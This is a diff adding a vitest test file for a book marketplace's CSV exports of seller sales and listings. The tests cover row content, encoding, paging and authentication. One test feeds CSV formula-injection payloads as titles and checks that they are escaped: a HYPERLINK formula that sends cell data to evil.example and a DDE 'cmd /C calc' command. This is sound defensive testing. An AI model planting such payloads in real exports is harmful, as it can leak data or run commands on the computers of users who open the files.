@@ -1,0 +1,199 @@
+import { parse } from 'csv-parse/sync';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { listBook } from '../../testing/books.js';
+import { changeListing } from '../../testing/listings.js';
+import { TestMarketplace } from '../../testing/marketplace.js';
+import { addToCart } from '../../testing/carts.js';
+import { buy, cancelOrder, placed, placeOrder, rent } from '../../testing/orders.js';
+import { signUpPublisher, signUpReader, type Person } from '../../testing/people.js';
+import { RestClient } from '../../testing/restClient.js';
+
+let marketplace: TestMarketplace;
+let seller: Person;
+let buyer: Person;
+beforeAll(async () => {
+  marketplace = await TestMarketplace.open();
+});
+afterAll(() => marketplace.close());
+
+type File = 'sales' | 'listings';
+const pathOf = (file: File) => `/api/v1/users/me/${file}.csv`;
+
+async function download(file: File, headers: Record<string, string>): Promise<Response> {
+  return fetch(marketplace.url + pathOf(file), { headers });
+}
+
+async function bytesOf(file: File, by = seller): Promise<string> {
+  const response = await download(file, { authorization: `Bearer ${by.token}` });
+  expect(response.status).toBe(200);
+  return new TextDecoder('utf-8', { ignoreBOM: true }).decode(await response.arrayBuffer());
+}
+
+async function rowsOf(file: File, by = seller): Promise<Record<string, string>[]> {
+  return parse(await bytesOf(file, by), { bom: true, columns: true, record_delimiter: '\r\n' });
+}
+
+describe('the sales of a seller', () => {
+  beforeAll(async () => {
+    seller = await signUpReader(marketplace, 'Kamala Iyer');
+    buyer = await signUpReader(marketplace, 'Asha "Ash" Rao, Mumbai');
+  });
+
+  it('are one row for each line, the newest first, with the days of rentals', async () => {
+    const book = await listBook(marketplace, seller, { title: 'गोदान', copies: 5 });
+    const elsewhere = await listBook(marketplace, await signUpReader(marketplace));
+    const bought = await buy(marketplace, buyer, book, elsewhere);
+    marketplace.clock.advanceDays(1);
+    const rented = await rent(marketplace, buyer, book, { months: 2 });
+    marketplace.clock.advanceDays(1);
+    await addToCart(marketplace, buyer, book, { quantity: 2 });
+    const cancelled = placed(await placeOrder(marketplace, buyer));
+    await cancelOrder(marketplace, buyer, cancelled.id);
+    const common = { Buyer: 'Asha "Ash" Rao, Mumbai', Title: 'गोदान', Author: 'Munshi Premchand' };
+    expect(await rowsOf('sales')).toMatchObject([
+      { Order: cancelled.id, ...common, Quantity: '2', Amount: '499.00', Status: 'cancelled' },
+      {
+        Order: rented.id,
+        ...common,
+        Kind: 'Rental',
+        From: '2026-01-16',
+        To: '2026-03-16',
+        'Unit Price': '49.00',
+        Amount: '98.00',
+        Deposit: '200.00',
+        Status: 'pending',
+      },
+      {
+        Order: bought.id,
+        'Ordered At': '2026-01-15T06:30:00.000Z',
+        ...common,
+        ISBN: '9788171821136',
+        Kind: 'Purchase',
+        Quantity: '1',
+        From: '',
+        To: '',
+        'Unit Price': '249.50',
+        Amount: '249.50',
+        Deposit: '0.00',
+        Currency: 'INR',
+        Status: 'pending',
+      },
+    ]);
+    expect(await rowsOf('sales', buyer)).toEqual([]);
+  });
+
+  it('begin with a byte order mark, and every line ends in CRLF', async () => {
+    const text = await bytesOf('sales');
+    expect(text.startsWith('\uFEFFOrder,Ordered At,Buyer,')).toBe(true);
+    expect(text).toContain('"Asha ""Ash"" Rao, Mumbai"');
+    expect(text.endsWith('\r\n')).toBe(true);
+    expect(text.replaceAll('\r\n', '')).not.toMatch(/[\r\n]/);
+  });
+
+  it('are read page by page without loss or repeat', async () => {
+    const publisher = await signUpPublisher(marketplace);
+    const book = await listBook(marketplace, publisher);
+    await sellOften(publisher, book, 1_203);
+    const rows = await rowsOf('sales', publisher);
+    expect(rows).toHaveLength(2_406);
+    expect(new Set(rows.map((row) => `${row['Order']} ${row['Quantity']}`)).size).toBe(2_406);
+  });
+
+  /** Orders of two lines each, several of them in one moment. */
+  async function sellOften(publisher: Person, bookId: string, orders: number): Promise<void> {
+    await marketplace.database.query(
+      `WITH placed AS (
+         INSERT INTO orders (id, buyer_id, idempotency_key, street, city, state, zipcode, payment_method,
+                             total_amount, deposit_total, created_at)
+         SELECT 'order_' || lpad(n::text, 26, '0'), $1, 'often ' || n, 's', 'c', 's', '400020', 'UPI', 300, 0,
+                '2026-01-01'::timestamptz + (n / 7) * interval '1 second'
+         FROM generate_series(1, $4::int) n RETURNING id, created_at),
+       parts AS (
+         INSERT INTO fulfillments (id, order_id, seller_id, created_at)
+         SELECT 'fulfillment_' || right(id, 26), id, $2, created_at FROM placed RETURNING id)
+       INSERT INTO order_items (id, fulfillment_id, book_id, title, author, type, quantity, unit_price, line_total)
+       SELECT 'orderitem_' || quantity || right(id, 25), id, $3, 'Godan', 'Premchand', 'PURCHASE', quantity, 100, 100 * quantity
+       FROM parts CROSS JOIN generate_series(1, 2) quantity`,
+      [buyer.id, publisher.id, bookId, orders],
+    );
+  }
+});
+
+describe('the listings of a seller', () => {
+  beforeAll(async () => {
+    seller = await signUpPublisher(marketplace);
+  });
+
+  it('are one row for each, under the headings that the import reads, those off the market too', async () => {
+    const id = await listBook(marketplace, seller, {
+      title: 'ગોદાન',
+      genres: ['FICTION', 'SELF_HELP'],
+      copies: 3,
+    });
+    await changeListing(marketplace, seller, 'takeOffBook', { bookId: id });
+    expect(await rowsOf('listings')).toMatchObject([
+      {
+        Book: id,
+        Title: 'ગોદાન',
+        ISBN: '9788171821136',
+        Genres: 'Fiction; Self-Help',
+        Condition: 'Good',
+        'Listing Type': 'both',
+        'Sale Price': '249.50',
+        'Rent per Month': '49.00',
+        Deposit: '200.00',
+        'Max Duration': '6',
+        Copies: '3',
+        Status: 'unlisted',
+      },
+    ]);
+  });
+
+  it.each([
+    ['=HYPERLINK("http://evil.example?"&A1,"Click")'],
+    ['+1+1'],
+    ['-2+3+cmd|" /C calc"!A0'],
+    ['@SUM(1+1)'],
+    ['＝1+1'],
+  ])('hold no formula: %s', async (title) => {
+    await listBook(marketplace, seller, { title, conditionDescription: title });
+    const [row] = await rowsOf('listings');
+    expect(row).toMatchObject({ Title: `'${title}`, 'Condition Description': `'${title}` });
+  });
+
+  it('are as many as there are, read page by page', async () => {
+    const publisher = await signUpPublisher(marketplace);
+    const content = JSON.stringify(
+      Array.from({ length: 2_500 }, (_, n) => ({
+        title: `किताब ${n}`,
+        author: 'Premchand',
+        genre: 'Fiction',
+        condition: 'Good',
+        listingType: 'sale',
+        price: { sale: 100 },
+      })),
+    );
+    await marketplace.upload(
+      'mutation ($input: ImportBooksInput!) { importBooks(input: $input) { createdCount } }',
+      { input: { file: null } },
+      { path: 'variables.input.file', content, name: 'books.json', type: 'application/json' },
+      publisher.token,
+    );
+    const titles = (await rowsOf('listings', publisher)).map((row) => row['Title']);
+    expect(titles).toHaveLength(2_500);
+    expect(new Set(titles).size).toBe(2_500);
+  });
+});
+
+describe.each<File>(['sales', 'listings'])('GET %s.csv', (file) => {
+  it('is for who is signed in, by token or cookie', async () => {
+    const rest = await RestClient.of(marketplace);
+    expect(await rest.get(pathOf(file))).toMatchObject({ status: 401, body: { code: 'UNAUTHENTICATED' } });
+    const byCookie = await download(file, { cookie: `panna_session=${seller.token}` });
+    expect(byCookie.status).toBe(200);
+    expect(byCookie.headers.get('content-type')).toBe('text/csv; charset=utf-8');
+    expect(byCookie.headers.get('content-disposition')).toBe(`attachment; filename="${file}.csv"`);
+    expect(byCookie.headers.get('cache-control')).toBe('no-store');
+    await byCookie.arrayBuffer();
+  });
+});
